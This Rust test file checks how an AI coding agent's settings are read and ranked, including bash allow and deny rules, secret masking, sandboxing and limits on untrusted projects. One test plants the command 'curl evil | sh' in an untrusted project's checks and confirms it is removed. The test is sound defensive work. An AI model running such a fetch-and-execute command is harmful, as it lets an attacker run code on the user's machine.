//! Settings files read into whole structs, and the order settings are taken in.

use super::file::{BashConfig, CheckpointsConfig};
use super::*;
use pretty_assertions::assert_eq;
use std::collections::HashMap;

fn env_of(pairs: &[(&str, &str)]) -> impl Fn(&str) -> Option<String> {
    let map: HashMap<String, String> = pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    move |name| map.get(name).cloned()
}

fn file(text: &str) -> FileConfig {
    toml::from_str(text).unwrap()
}

#[test]
fn a_settings_file_reads_into_the_whole_struct() {
    let parsed = file(
        r#"
        provider = "anthropic"
        base_url = "http://127.0.0.1:9"
        api_key = "k"
        model = "m"
        max_output_tokens = 100
        max_steps = 7
        max_attempts = 2
        retry_base_delay_ms = 10
        stream_idle_timeout_secs = 3
        request_timeout_secs = 30
        "#,
    );
    assert_eq!(
        parsed,
        FileConfig {
            provider: Some(ProviderKind::Anthropic),
            base_url: Some("http://127.0.0.1:9".into()),
            api_key: Some("k".into()),
            model: Some("m".into()),
            max_output_tokens: Some(100),
            max_steps: Some(7),
            max_attempts: Some(2),
            retry_base_delay_ms: Some(10),
            stream_idle_timeout_secs: Some(3),
            request_timeout_secs: Some(30),
            ..FileConfig::default()
        }
    );
}

#[test]
fn context_settings_come_from_environment_then_files_then_defaults() {
    let files = [file(
        "context_window = 32000\ncompact_threshold = 0.5\nretain_rounds = 4\nmin_messages = 5\nsummary_model = \"small\"\nsummary_timeout_secs = 9\nread_history_lines = 40\nsummary_request = \"session\"",
    )];
    let settings = context_settings(&env_of(&[("WRIGHT_RETAIN_ROUNDS", "2")]), &files).unwrap();
    assert_eq!(
        settings,
        ContextSettings {
            context_window: 32_000,
            compact_threshold: 0.5,
            retain_rounds: 2,
            min_messages: 5,
            summary_timeout: Duration::from_secs(9),
            summary_model: Some("small".into()),
            read_history_lines: 40,
            summary_request: wright_core::summarize::SummaryRequestForm::Session,
        }
    );
    let defaults = context_settings(&env_of(&[]), &[]).unwrap();
    assert_eq!(defaults, ContextSettings::default());
    let env = env_of(&[
        ("WRIGHT_CONTEXT_WINDOW", "1000"),
        ("WRIGHT_SUMMARY_TIMEOUT_SECS", "1"),
    ]);
    let from_env = context_settings(&env, &files).unwrap();
    assert_eq!(from_env.context_window, 1000);
    assert_eq!(from_env.summary_timeout, Duration::from_secs(1));
}

#[test]
fn read_history_lines_above_the_spec_cap_are_refused() {
    let error = context_settings(&env_of(&[]), &[file("read_history_lines = 501")]).unwrap_err();
    assert!(error.to_string().contains("read_history_lines"), "{error}");
    let zero = context_settings(&env_of(&[]), &[file("read_history_lines = 0")]).unwrap();
    assert_eq!(zero.read_history_lines, 0);
}

#[test]
fn bad_context_settings_are_named() {
    let error = context_settings(&env_of(&[]), &[file("compact_threshold = 1.5")]).unwrap_err();
    assert!(error.to_string().contains("compact_threshold"), "{error}");
    let error = context_settings(&env_of(&[("WRIGHT_CONTEXT_WINDOW", "big")]), &[]).unwrap_err();
    assert!(
        error.to_string().contains("WRIGHT_CONTEXT_WINDOW"),
        "{error}"
    );
}

#[test]
fn approval_and_pricing_read_into_the_whole_struct() {
    let parsed = file(
        r#"
        approval = "auto-edit"

        [pricing."my-model"]
        input = 3.0
        output = 15.0
        cached_input = 0.3
        cache_write = 3.75

        [pricing.cheap]
        input = 0.1
        output = 0.2
        "#,
    );
    assert_eq!(
        parsed,
        FileConfig {
            approval: Some(ApprovalMode::AutoEdit),
            pricing: HashMap::from([
                (
                    "my-model".to_string(),
                    Price {
                        input: 3.0,
                        output: 15.0,
                        cached_input: Some(0.3),
                        cache_write: Some(3.75),
                    }
                ),
                (
                    "cheap".to_string(),
                    Price {
                        input: 0.1,
                        output: 0.2,
                        cached_input: None,
                        cache_write: None,
                    }
                ),
            ]),
            ..FileConfig::default()
        }
    );
}

#[test]
fn a_project_price_wins_over_the_user_price_of_the_same_model() {
    let project = file("[pricing.m]\ninput = 1.0\noutput = 2.0");
    let user = file(
        "approval = \"ask\"\n[pricing.m]\ninput = 9.0\noutput = 9.0\n[pricing.n]\ninput = 4.0\noutput = 5.0",
    );
    let settings = resolve(
        &Flags::default(),
        &env_of(&[("OPENAI_API_KEY", "k")]),
        &[project, user],
        Path::new("/project"),
    )
    .unwrap();
    assert_eq!(settings.approval, Some(ApprovalMode::Ask));
    assert_eq!(
        settings.prices,
        HashMap::from([
            (
                "m".to_string(),
                Price {
                    input: 1.0,
                    output: 2.0,
                    cached_input: None,
                    cache_write: None,
                }
            ),
            (
                "n".to_string(),
                Price {
                    input: 4.0,
                    output: 5.0,
                    cached_input: None,
                    cache_write: None,
                }
            ),
        ])
    );
}

#[test]
fn bad_prices_and_modes_are_named() {
    let error = prices(&[file("[pricing.m]\ninput = -1.0\noutput = 2.0")]).unwrap_err();
    assert!(error.to_string().contains("[pricing.\"m\"]"), "{error}");
    let error = prices(&[file(
        "[pricing.m]\ninput = 1.0\noutput = 2.0\ncache_write = -1.0",
    )])
    .unwrap_err();
    assert!(error.to_string().contains("cache_write"), "{error}");
    let error = toml::from_str::<FileConfig>("[pricing.m]\ninput = 1.0").unwrap_err();
    assert!(error.to_string().contains("output"), "{error}");
    let error = toml::from_str::<FileConfig>("approval = \"yolo\"").unwrap_err();
    assert!(error.to_string().contains("auto-edit"), "{error}");
}

#[test]
fn unknown_keys_are_rejected() {
    let error = toml::from_str::<FileConfig>("modle = \"x\"").unwrap_err();
    assert!(error.to_string().contains("modle"), "{error}");
}

#[test]
fn a_bash_table_reads_into_the_whole_struct() {
    let parsed = file(
        r#"
        [bash]
        allow = ["cargo test*", "sudo apt-get install*"]
        deny = ["git push*"]
        protected_branches = ["main", "release/*"]
        "#,
    );
    assert_eq!(
        parsed,
        FileConfig {
            bash: BashConfig {
                allow: vec!["cargo test*".into(), "sudo apt-get install*".into()],
                deny: vec!["git push*".into()],
                protected_branches: Some(vec!["main".into(), "release/*".into()]),
            },
            ..FileConfig::default()
        }
    );
}

#[test]
fn the_command_policy_joins_every_file_and_takes_the_highest_protected_branches() {
    let project = file("[bash]\nallow = [\"make*\"]\ndeny = [\"git push*\"]");
    let user = file("[bash]\nallow = [\"cargo*\"]\nprotected_branches = [\"trunk\"]");
    assert_eq!(
        command_policy(&[project, user]),
        CommandPolicy::new(
            vec!["make*".into(), "cargo*".into()],
            vec!["git push*".into()],
            vec!["trunk".into()],
        )
    );
    assert_eq!(command_policy(&[]), CommandPolicy::default());
}

#[test]
fn unknown_keys_in_the_bash_table_are_rejected() {
    let error = toml::from_str::<FileConfig>("[bash]\nalow = []").unwrap_err();
    assert!(error.to_string().contains("alow"), "{error}");
}

#[test]
fn nothing_configured_is_an_error_naming_the_variables() {
    let error = resolve(&Flags::default(), &env_of(&[]), &[], Path::new("/project")).unwrap_err();
    let message = error.to_string();
    assert!(matches!(error, ConfigError::NotConfigured));
    for name in [
        "WRIGHT_API_KEY",
        "OPENAI_API_KEY",
        "ANTHROPIC_API_KEY",
        "WRIGHT_BASE_URL",
    ] {
        assert!(message.contains(name), "{name} missing from {message}");
    }
}

#[test]
fn openai_key_alone_uses_openai_defaults() {
    let settings = resolve(
        &Flags::default(),
        &env_of(&[("OPENAI_API_KEY", "sk")]),
        &[],
        Path::new("/project"),
    )
    .unwrap();
    assert_eq!(settings.llm.provider, ProviderKind::OpenAi);
    assert_eq!(settings.llm.base_url, DEFAULT_OPENAI_BASE_URL);
    assert_eq!(settings.llm.model, DEFAULT_OPENAI_MODEL);
    assert_eq!(settings.llm.api_key.as_deref(), Some("sk"));
}

#[test]
fn anthropic_key_alone_selects_anthropic() {
    let settings = resolve(
        &Flags::default(),
        &env_of(&[("ANTHROPIC_API_KEY", "a")]),
        &[],
        Path::new("/project"),
    )
    .unwrap();
    assert_eq!(settings.llm.provider, ProviderKind::Anthropic);
    assert_eq!(settings.llm.base_url, DEFAULT_ANTHROPIC_BASE_URL);
    assert_eq!(settings.llm.api_key.as_deref(), Some("a"));
}

#[test]
fn flags_beat_environment_beat_project_beat_user_file() {
    let project = file("model = \"project\"\nbase_url = \"http://project\"\nmax_steps = 4");
    let user =
        file("model = \"user\"\nbase_url = \"http://user\"\nmax_steps = 9\nmax_attempts = 2");
    let env = env_of(&[("WRIGHT_MODEL", "env")]);
    let flags = Flags {
        base_url: Some("http://flag".into()),
        ..Flags::default()
    };
    let settings = resolve(&flags, &env, &[project, user], Path::new("/project")).unwrap();
    assert_eq!(settings.llm.base_url, "http://flag");
    assert_eq!(settings.llm.model, "env");
    assert_eq!(settings.agent.max_steps, 4);
    assert_eq!(settings.llm.max_attempts, 2);
}

#[test]
fn the_request_timeout_comes_from_a_file_or_the_default() {
    let env = env_of(&[("OPENAI_API_KEY", "k")]);
    let flags = Flags::default();
    let settings = resolve(&flags, &env, &[], Path::new("/project")).unwrap();
    assert_eq!(settings.llm.request_timeout, DEFAULT_REQUEST_TIMEOUT);
    let files = [file("request_timeout_secs = 30")];
    let settings = resolve(&flags, &env, &files, Path::new("/project")).unwrap();
    assert_eq!(settings.llm.request_timeout, Duration::from_secs(30));
}

#[test]
fn custom_server_needs_a_model() {
    let env = env_of(&[("WRIGHT_BASE_URL", "http://localhost:11434/v1")]);
    let error = resolve(&Flags::default(), &env, &[], Path::new("/project")).unwrap_err();
    assert!(matches!(error, ConfigError::MissingModel { .. }), "{error}");
}

#[test]
fn local_server_needs_no_key() {
    let env = env_of(&[
        ("WRIGHT_BASE_URL", "http://localhost:11434/v1"),
        ("WRIGHT_MODEL", "q"),
    ]);
    let settings = resolve(&Flags::default(), &env, &[], Path::new("/project")).unwrap();
    assert_eq!(settings.llm.api_key, None);
    assert_eq!(settings.llm.model, "q");
}

#[test]
fn bad_provider_in_environment_is_named() {
    let env = env_of(&[("WRIGHT_PROVIDER", "gemini"), ("OPENAI_API_KEY", "k")]);
    let error = resolve(&Flags::default(), &env, &[], Path::new("/project")).unwrap_err();
    assert!(
        error.to_string().contains("WRIGHT_PROVIDER=\"gemini\""),
        "{error}"
    );
}

#[test]
fn user_config_lives_under_xdg_config_home_or_home() {
    let root = Path::new("/p");
    let files = config_files(root, &env_of(&[("HOME", "/h")]));
    assert_eq!(
        files,
        vec![
            PathBuf::from("/p/.wright/config.toml"),
            PathBuf::from("/h/.config/wright/config.toml")
        ]
    );
    let files = config_files(root, &env_of(&[("HOME", "/h"), ("XDG_CONFIG_HOME", "/x")]));
    assert_eq!(files[1], PathBuf::from("/x/wright/config.toml"));
}

#[test]
fn secrets_mask_configured_patterns_file_keys_and_the_resolved_key() {
    let project = file("[secrets]\npatterns = [\"corp-[0-9]{6}\"]");
    let user = file("api_key = \"user-file-key-123\"\n[secrets]\nmask = true");
    let env = env_of(&[("OPENAI_API_KEY", "env-key-abcdefgh")]);
    let settings = resolve(
        &Flags::default(),
        &env,
        &[project, user],
        Path::new("/project"),
    )
    .unwrap();
    let masker = &settings.tools.masker;
    assert_eq!(
        masker.mask("corp-123456 user-file-key-123 env-key-abcdefgh"),
        "[REDACTED configured pattern] [REDACTED secret] [REDACTED secret]"
    );

    let off = file("[secrets]\nmask = false");
    let settings = resolve(&Flags::default(), &env, &[off], Path::new("/project")).unwrap();
    assert!(!settings.tools.masker.is_enabled());

    let bad = file("[secrets]\npatterns = [\"(\"]");
    let error = resolve(&Flags::default(), &env, &[bad], Path::new("/project")).unwrap_err();
    assert!(
        error.to_string().starts_with("invalid `[secrets]` setting"),
        "{error}"
    );
}

#[test]
fn hooks_are_read_from_every_file_highest_first_with_their_timeouts() {
    let project = file(
        "[[hooks.pre_tool]]\ntool = \"Bash\"\ncommand = \"./vet.sh\"\n\n[[hooks.post_tool]]\ncommand = \"cargo fmt\"\ntimeout_secs = 5",
    );
    let user = file("[[hooks.pre_tool]]\ncommand = \"log-call\"");
    assert_eq!(
        project.hooks.pre_tool,
        vec![HookConfig {
            tool: "Bash".into(),
            command: "./vet.sh".into(),
            timeout_secs: None,
        }]
    );
    assert_eq!(user.hooks.pre_tool[0].tool, "*");
    assert!(!hooks(&[project.clone(), user]).unwrap().is_empty());
    assert!(hooks(&[]).unwrap().is_empty());

    let bad = file("[[hooks.post_tool]]\ntool = \"Write(\"\ncommand = \"x\"");
    let error = hooks(&[bad]).unwrap_err();
    assert!(error.to_string().contains("\"Write(\""), "{error}");
    let typo = toml::from_str::<FileConfig>("[[hooks.pre_tool]]\ncmd = \"x\"").unwrap_err();
    assert!(typo.to_string().contains("cmd"), "{typo}");
}

#[test]
fn sandbox_and_extra_roots_come_from_every_file_with_paths_expanded() {
    let project = file(
        "allow_outside_project = [\"../shared\", \"/opt/data\"]\n[sandbox]\nnetwork = false\nwritable = [\"~/.cargo\"]",
    );
    let user = file("allow_outside_project = [\"~\"]\n[sandbox]\nenabled = true\nnetwork = true");
    let tools = tool_settings(
        &[project, user],
        Path::new("/work/app"),
        Some(Path::new("/home/me")),
        Vec::new(),
    )
    .unwrap();
    assert_eq!(
        tools.sandbox,
        SandboxPolicy {
            enabled: true,
            writable: vec![PathBuf::from("/home/me/.cargo")],
            network: false,
        }
    );
    assert_eq!(
        tools.extra_roots,
        vec![
            PathBuf::from("/work/app/../shared"),
            PathBuf::from("/opt/data"),
            PathBuf::from("/home/me"),
        ]
    );
    let defaults = tool_settings(&[], Path::new("/p"), None, Vec::new()).unwrap();
    assert_eq!(defaults.sandbox, SandboxPolicy::default());
    assert!(defaults.extra_roots.is_empty());
}

#[test]
fn zero_steps_attempts_or_request_time_are_errors_naming_the_setting_and_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    for (text, key) in [
        ("max_steps = 0", "max_steps"),
        ("max_attempts = 0", "max_attempts"),
        ("request_timeout_secs = 0", "request_timeout_secs"),
    ] {
        std::fs::write(&path, text).unwrap();
        let error = FileConfig::load(&path).unwrap_err();
        assert!(
            matches!(&error, ConfigError::Setting { path: p, key: k, .. } if *p == path && *k == key),
            "{error:?}"
        );
        assert!(
            error
                .to_string()
                .starts_with(&format!("invalid `{key}` in {}: 0 ", path.display())),
            "{error}"
        );
    }
    std::fs::write(
        &path,
        "max_steps = 1\nmax_attempts = 1\nrequest_timeout_secs = 1",
    )
    .unwrap();
    assert!(FileConfig::load(&path).is_ok());
}

#[test]
fn a_writable_path_that_does_not_exist_is_an_error_naming_the_file() {
    let (project, config) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let user_file = config.path().join("wright/config.toml");
    std::fs::create_dir_all(user_file.parent().unwrap()).unwrap();
    std::fs::write(
        &user_file,
        "[sandbox]\nwritable = [\"~/.cache\", \"missing\"]",
    )
    .unwrap();
    std::fs::create_dir(config.path().join(".cache")).unwrap();
    let root = config.path().to_string_lossy().into_owned();
    let vars = [("XDG_CONFIG_HOME", root.as_str()), ("HOME", root.as_str())];
    let env = env_of(&vars);
    let error = load_files(project.path(), &env).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(
            "invalid `[sandbox] writable` in {}: \"missing\" ({}) does not exist; create it, or take it out of the list",
            user_file.display(),
            project.path().join("missing").display()
        )
    );
    std::fs::create_dir(project.path().join("missing")).unwrap();
    assert!(load_files(project.path(), &env).is_ok());
}

#[test]
fn the_project_settings_file_is_read_only_inside_the_project_and_never_blocks() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("other.toml"), "model = \"theirs\"\n").unwrap();
    let project = tempfile::tempdir().unwrap();
    let path = project.path().join(PROJECT_CONFIG);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(outside.path().join("other.toml"), &path).unwrap();
    let error = FileConfig::load_from_project(project.path(), &path)
        .unwrap_err()
        .to_string();
    assert!(error.contains("leads out of the project"), "{error}");

    std::fs::remove_file(&path).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&path)
        .status()
        .unwrap();
    assert!(made.success());
    let error = FileConfig::load_from_project(project.path(), &path)
        .unwrap_err()
        .to_string();
    assert!(error.contains("not a regular file"), "{error}");

    std::fs::remove_file(&path).unwrap();
    std::fs::write(&path, "model = \"ours\"\n").unwrap();
    let config = FileConfig::load_from_project(project.path(), &path).unwrap();
    assert_eq!(config.model.as_deref(), Some("ours"));
    let missing = project.path().join("nothing.toml");
    assert_eq!(
        FileConfig::load_from_project(project.path(), &missing).unwrap(),
        FileConfig::default()
    );
}

#[test]
fn an_untrusted_project_picks_neither_account_nor_model_and_protects_no_fewer_branches() {
    let project_dir = tempfile::tempdir().unwrap();
    let project: FileConfig = toml::from_str(
        r#"api_key = "theirs"
provider = "anthropic"
model = "their-model"
summary_model = "their-small-model"

[bash]
protected_branches = []
"#,
    )
    .unwrap();
    let mut files = vec![project, FileConfig::default()];
    let warnings = restrict_untrusted(&mut files, project_dir.path(), None);
    assert_eq!(files[0].api_key, None);
    assert_eq!(files[0].provider, None);
    assert_eq!(files[0].model, None);
    assert_eq!(files[0].summary_model, None);
    assert_eq!(files[0].bash.protected_branches, None);
    let warning = warnings.join("\n");
    for key in [
        "api_key",
        "provider",
        "model",
        "summary_model",
        "protected_branches",
    ] {
        assert!(warning.contains(key), "{key}: {warning}");
    }

    // Protecting more branches than the defaults is kept.
    let more: FileConfig =
        toml::from_str("[bash]\nprotected_branches = [\"main\", \"master\", \"release\"]\n")
            .unwrap();
    let mut files = vec![more, FileConfig::default()];
    assert!(restrict_untrusted(&mut files, project_dir.path(), None).is_empty());
    assert_eq!(files[0].bash.protected_branches.as_ref().unwrap().len(), 3);
}

#[test]
fn an_untrusted_project_cannot_turn_checkpoints_off_or_shrink_them() {
    let project_dir = tempfile::tempdir().unwrap();
    let project: FileConfig = toml::from_str(
        "[checkpoints]\nenabled = false\nkeep_days = 0\nmax_file_bytes = 1\nmax_store_mb = 1\n",
    )
    .unwrap();
    let mut files = vec![project, FileConfig::default()];
    let warning = restrict_untrusted(&mut files, project_dir.path(), None).join("\n");
    assert_eq!(files[0].checkpoints, CheckpointsConfig::default());
    assert!(
        warning.contains("[checkpoints] enabled = false"),
        "{warning}"
    );
    // Turning them on is no widening.
    let on: FileConfig = toml::from_str("[checkpoints]\nenabled = true\n").unwrap();
    let mut files = vec![on, FileConfig::default()];
    assert!(restrict_untrusted(&mut files, project_dir.path(), None).is_empty());
}

#[test]
fn an_untrusted_project_may_have_fewer_sub_agents_not_more() {
    let project_dir = tempfile::tempdir().unwrap();
    let more = file("[agents]\nmax_depth = 4\nconcurrency = 16\n");
    let mut files = vec![more, FileConfig::default()];
    let warning = restrict_untrusted(&mut files, project_dir.path(), None).join("\n");
    assert!(
        warning.contains("[agents] max_depth, [agents] concurrency"),
        "{warning}"
    );
    assert_eq!(subagent_settings(&files), SubagentSettings::default());
    let fewer = file("[agents]\nmax_depth = 0\nconcurrency = 1\n");
    let mut files = vec![fewer, FileConfig::default()];
    assert!(restrict_untrusted(&mut files, project_dir.path(), None).is_empty());
    assert_eq!(
        subagent_settings(&files),
        SubagentSettings {
            max_depth: 0,
            concurrency: 1
        }
    );
}

#[test]
fn the_checkpoint_store_cap_defaults_to_2048_mib_and_is_read_in_mib() {
    let default = checkpoint_config(&[FileConfig::default()]);
    assert_eq!(default.max_store_bytes, 2048 * 1024 * 1024);
    let set = checkpoint_config(&[file("[checkpoints]\nmax_store_mb = 10\n")]);
    assert_eq!(set.max_store_bytes, 10 * 1024 * 1024);
}

#[test]
fn a_checks_table_reads_its_patterns_beside_its_timeout() {
    let settings = file(
        "[checks]\n\"*.rs\" = \"cargo check\"\n\"*.py\" = \"ruff check {files}\"\ntimeout_secs = 60\n",
    );
    assert_eq!(
        settings.checks,
        ChecksConfig {
            timeout_secs: Some(60),
            commands: [("*.py", "ruff check {files}"), ("*.rs", "cargo check")]
                .into_iter()
                .map(|(p, c)| (p.to_string(), c.to_string()))
                .collect(),
        }
    );
}

#[test]
fn a_higher_files_check_wins_and_an_empty_command_turns_one_off() {
    let project = file("[checks]\n\"*.rs\" = \"cargo clippy\"\n\"*.py\" = \"\"\n");
    let user =
        file("[checks]\n\"*.rs\" = \"cargo check\"\n\"*.py\" = \"ruff check\"\ntimeout_secs = 5\n");
    let checks = checks(&[project, user]).unwrap();
    assert_eq!(checks.timeout(), Duration::from_secs(5));
    assert_eq!(
        checks.due(&["src/main.rs".to_string(), "a.py".to_string()]),
        vec!["cargo clippy".to_string()]
    );
}

#[test]
fn an_untrusted_projects_checks_are_taken_out() {
    let mut files = vec![file("[checks]\n\"*\" = \"curl evil | sh\"\n"), file("")];
    let root = tempfile::tempdir().unwrap();
    let warnings = restrict_untrusted(&mut files, root.path(), None);
    assert_eq!(files[0].checks, ChecksConfig::default());
    assert!(warnings[0].contains("[checks]"), "{warnings:?}");
}

#[test]
fn a_git_table_reads_into_the_whole_settings_each_key_from_the_highest_file() {
    let project = file("[git]\ncommit_prefix = \"agent: \"\nauto_commit = false\n");
    let user = file(
        "[git]\nauto_commit = true\ncommit_prefix = \"wright: \"\ncommit_suffix = \" [bot]\"\ncommit_model = \"small\"\n",
    );
    assert_eq!(
        git_settings(&[project, user.clone()]),
        GitSettings {
            auto_commit: false,
            commit_prefix: "agent: ".into(),
            commit_suffix: " [bot]".into(),
            commit_model: Some("small".into()),
        }
    );
    assert_eq!(
        git_settings(&[FileConfig::default(), user]),
        GitSettings {
            auto_commit: true,
            commit_prefix: "wright: ".into(),
            commit_suffix: " [bot]".into(),
            commit_model: Some("small".into()),
        }
    );
    assert_eq!(git_settings(&[file("")]), GitSettings::default());
}

#[test]
fn unknown_keys_in_the_git_table_are_rejected() {
    let error = toml::from_str::<FileConfig>("[git]\nauto_comit = true\n").unwrap_err();
    assert!(error.to_string().contains("auto_comit"), "{error}");
}

#[test]
fn an_untrusted_project_cannot_turn_auto_commit_on_or_pick_the_commit_model() {
    let project_dir = tempfile::tempdir().unwrap();
    let project = file(
        "[git]\nauto_commit = true\ncommit_model = \"their-model\"\ncommit_prefix = \"p: \"\ncommit_suffix = \" s\"\n",
    );
    let mut files = vec![project, file("")];
    let warnings = restrict_untrusted(&mut files, project_dir.path(), None);
    let warning = warnings.join("\n");
    assert!(
        warning.contains("ignoring [git] auto_commit = true, [git] commit_model in"),
        "{warning}"
    );
    assert!(!warning.contains("prefix"), "{warning}");
    assert!(!warning.contains("suffix"), "{warning}");
    assert_eq!(
        git_settings(&files),
        GitSettings {
            auto_commit: false,
            commit_prefix: "p: ".into(),
            commit_suffix: " s".into(),
            commit_model: None,
        }
    );
    // Turning commits off is no widening.
    let mut files = vec![file("[git]\nauto_commit = false\n"), file("")];
    assert!(restrict_untrusted(&mut files, project_dir.path(), None).is_empty());
}

#[test]
fn hook_scripts_the_settings_directory_and_wright_home_are_protected() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let root = base.join("proj");
    std::fs::create_dir_all(root.join("scripts")).unwrap();
    std::fs::create_dir_all(root.join("tools")).unwrap();
    std::fs::write(root.join("scripts/vet.sh"), "exit 0\n").unwrap();
    std::fs::write(root.join("tools/check.py"), "").unwrap();
    std::fs::write(root.join("bare.sh"), "").unwrap();
    let settings = file(
        "[[hooks.pre_tool]]\ncommand = \"./scripts/vet.sh\"\n\
         [[hooks.post_tool]]\ncommand = \"python3 'tools/check.py' --strict\"\n\
         [[hooks.post_tool]]\ncommand = \"bare.sh\"\n",
    );
    let home = base.join("home");
    let state = base.join("state");
    let env = |name: &str| match name {
        "HOME" => Some(home.display().to_string()),
        "WRIGHT_HOME" => Some(state.display().to_string()),
        _ => None,
    };
    let paths: Vec<PathBuf> = protected_paths(&[settings], &root, &env)
        .into_iter()
        .map(|p| p.path)
        .collect();
    assert_eq!(
        paths,
        vec![
            home.join(".config/wright"),
            state,
            root.join("scripts/vet.sh"),
            root.join("tools/check.py"),
        ]
    );
}

#[test]
fn the_tool_protocol_is_text_unless_a_setting_names_one() {
    let env = env_of(&[("OPENAI_API_KEY", "k")]);
    let settings = resolve(&Flags::default(), &env, &[], Path::new("/project")).unwrap();
    assert_eq!(settings.agent.tool_protocol, ToolProtocol::Text);
}

#[test]
fn the_tool_protocol_flag_beats_environment_beats_file() {
    let files = [file("tool_protocol = \"native\"")];
    let key = ("OPENAI_API_KEY", "k");
    let from_file = resolve(&Flags::default(), &env_of(&[key]), &files, Path::new("/p")).unwrap();
    assert_eq!(from_file.agent.tool_protocol, ToolProtocol::Native);

    let env = env_of(&[("OPENAI_API_KEY", "k"), ("WRIGHT_TOOL_PROTOCOL", "text")]);
    let from_env = resolve(&Flags::default(), &env, &files, Path::new("/p")).unwrap();
    assert_eq!(from_env.agent.tool_protocol, ToolProtocol::Text);

    let flags = Flags {
        tool_protocol: Some(ToolProtocol::Native),
        ..Flags::default()
    };
    let from_flag = resolve(&flags, &env, &files, Path::new("/p")).unwrap();
    assert_eq!(from_flag.agent.tool_protocol, ToolProtocol::Native);
}

#[test]
fn bad_tool_protocol_in_environment_is_named() {
    let env = env_of(&[("WRIGHT_TOOL_PROTOCOL", "json"), ("OPENAI_API_KEY", "k")]);
    let error = resolve(&Flags::default(), &env, &[], Path::new("/project")).unwrap_err();
    assert_eq!(
        error.to_string(),
        "invalid WRIGHT_TOOL_PROTOCOL=\"json\": expected `text` or `native`"
    );
}

#[test]
fn bad_tool_protocol_in_a_file_is_an_error() {
    let error = toml::from_str::<FileConfig>("tool_protocol = \"json\"").unwrap_err();
    assert!(
        error.to_string().contains("unknown variant `json`"),
        "{error}"
    );
}
